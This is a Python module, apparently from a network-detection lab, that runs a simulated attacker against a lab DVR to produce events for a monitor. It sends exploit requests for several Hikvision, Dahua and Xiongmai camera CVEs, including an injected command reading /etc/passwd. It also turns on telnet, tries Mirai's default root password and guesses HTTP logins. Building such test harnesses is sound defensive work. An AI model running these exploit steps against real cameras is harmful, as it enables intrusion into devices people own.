"""The lab's attacker on the "internet": `python -m lab.attacker DIR` (run inside the internet namespace).

It speaks from its own address (`services.attacker`, 203.0.113.66) to the infected DVR (the camera with
the `xiongmai` persona), through the gateway, as attacks on cameras look in public descriptions
(lab/attacks.py). When triggered (its control file `DIR/control/attacker.json`, or every `trigger_every`
seconds) it runs two behaviours, each logged in events.jsonl with the rules camwatch must raise about the DVR:

- `attacker.exploits`: Hikvision CVE-2021-36260 (`PUT /SDK/webLanguage`) and CVE-2017-7921 (`auth=`), the
  Dahua CVE-2021-33044 login over `/RPC2_Login`, Xiongmai's telnet enabler on tcp/9530 (the old firmware
  answers `Open:OK` and starts telnet), then a telnet login attempt on tcp/23;
- `attacker.password_guessing`: HTTP Basic logins as `admin` with 15 wrong passwords, then the factory one.
"""

from __future__ import annotations

import argparse
import asyncio
import logging
import sys
import time
from collections.abc import Awaitable, Callable, Sequence
from pathlib import Path
from typing import Final

from lab import attacks
from lab.camera import BEHAVIOURS, POLL_SECONDS, http_exchange, http_status
from lab.process import act_on_triggers, lab_arguments, run_main
from lab.topology import Camera, LabDescription, LabEvent, LabPaths

__all__ = ["GUESSES", "NAME", "main"]

log = logging.getLogger(__name__)

NAME: Final = "attacker"
GUESSES: Final = 15
TIMEOUT: Final = 5.0
BETWEEN: Final = 0.5  # seconds between the two behaviours


class Attacker:
    """The attacker's behaviours against the target camera."""

    def __init__(self, desc: LabDescription, paths: LabPaths) -> None:
        self.desc = desc
        self.paths = paths
        self.source = desc.services.attacker
        self.target: Camera = next(c for c in desc.cameras if c.persona == "xiongmai")

    async def behaviour(self, name: str, action: Callable[[dict[str, object]], Awaitable[None]]) -> None:
        started = time.time()
        detail: dict[str, object] = {"attacker": self.source}
        try:
            await action(detail)
        except (OSError, TimeoutError, ValueError) as exc:
            detail["error"] = str(exc) or type(exc).__name__
            log.warning("%s: %s", name, detail["error"])
        else:
            log.info("%s: %s", name, detail)
        cam = self.target
        event = LabEvent(started, cam.name, cam.ip, cam.mac, name, BEHAVIOURS[name], detail)
        try:
            event.append_to(self.paths.events)
        except OSError as exc:
            log.error("cannot record %s in %s: %s", name, self.paths.events, exc)

    async def exploits(self, detail: dict[str, object]) -> None:
        ip, src = self.target.ip, self.source
        statuses: dict[str, int | None] = {}
        requests = {
            "CVE-2021-36260": attacks.http_request(
                "PUT", "/SDK/webLanguage", ip, body=attacks.weblanguage_body("cat /etc/passwd>webLib/x")
            ),
            "CVE-2017-7921": attacks.http_request(
                "GET", f"/System/configurationFile?auth={attacks.AUTH_BYPASS_TOKEN}", ip
            ),
            "CVE-2021-33044": attacks.http_request(
                "POST",
                "/RPC2_Login",
                ip,
                body=attacks.rpc_login_body("admin", client_type="NetKeyboard", password="Not Used"),
                content_type="application/x-www-form-urlencoded; charset=UTF-8",
            ),
        }
        for cve, request in requests.items():
            statuses[cve] = http_status(await http_exchange(ip, 80, request, TIMEOUT, source=src))
        enable = attacks.enabler_message("OpenTelnet:OpenOnce")
        opened = await http_exchange(ip, 9530, enable, TIMEOUT, source=src)  # (not HTTP: the same exchange)
        detail.update(http=statuses, enabler=opened[1:].rstrip(b"\x00").decode("ascii", "replace"))
        if b"Open:OK" not in opened:
            raise ValueError(f"the telnet enabler answered {opened[:32]!r}")
        await asyncio.sleep(0.2)
        # The telnet server the enabler started: read the banner, try Mirai's first credentials.
        async with asyncio.timeout(TIMEOUT):
            reader, writer = await asyncio.open_connection(ip, 23, local_addr=(src, 0))
            try:
                banner = await reader.read(256)
                writer.write(b"root\r\n")
                await writer.drain()
                await reader.read(256)
                writer.write(b"xc3511\r\n")
                await writer.drain()
                await reader.read(256)
            finally:
                writer.close()
        detail["telnet_banner"] = banner.rsplit(b"\n", 1)[-1].decode("ascii", "replace").strip()

    async def password_guessing(self, detail: dict[str, object]) -> None:
        ip, src = self.target.ip, self.source
        refused = 0
        for i in range(GUESSES):
            auth = attacks.basic_auth("admin", f"guess{i:02d}")
            reply = await http_exchange(
                ip, 80, attacks.http_request("GET", "/", ip, authorization=auth), TIMEOUT, source=src
            )
            refused += http_status(reply) == 401
        factory = attacks.http_request("GET", "/", ip, authorization=attacks.basic_auth("admin", ""))
        found = await http_exchange(ip, 80, factory, TIMEOUT, source=src)
        detail.update(attempts=GUESSES + 1, refused=refused, factory_password_status=http_status(found))


async def run(directory: Path) -> None:
    """Wait for triggers until SIGTERM."""
    paths = LabPaths(directory)
    desc = LabDescription.load(paths.lab_json)
    attacker = Attacker(desc, paths)  # fails now, not at the first trigger, if the lab has no target

    async def act() -> None:
        await attacker.behaviour("attacker.exploits", attacker.exploits)
        await asyncio.sleep(BETWEEN)
        await attacker.behaviour("attacker.password_guessing", attacker.password_guessing)

    ready: dict[str, object] = {"source": attacker.source, "target": attacker.target.name}
    await act_on_triggers(paths, NAME, act, desc.trigger_every, ready, POLL_SECONDS)
    log.info("attacker stopped")


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Run the lab's attacker (inside the internet namespace).")
    lab_arguments(parser)
    return run_main(
        parser, argv, lambda args: run(args.directory), process=NAME, log=log, unknown_name_exits_2=True
    )


if __name__ == "__main__":
    sys.exit(main())
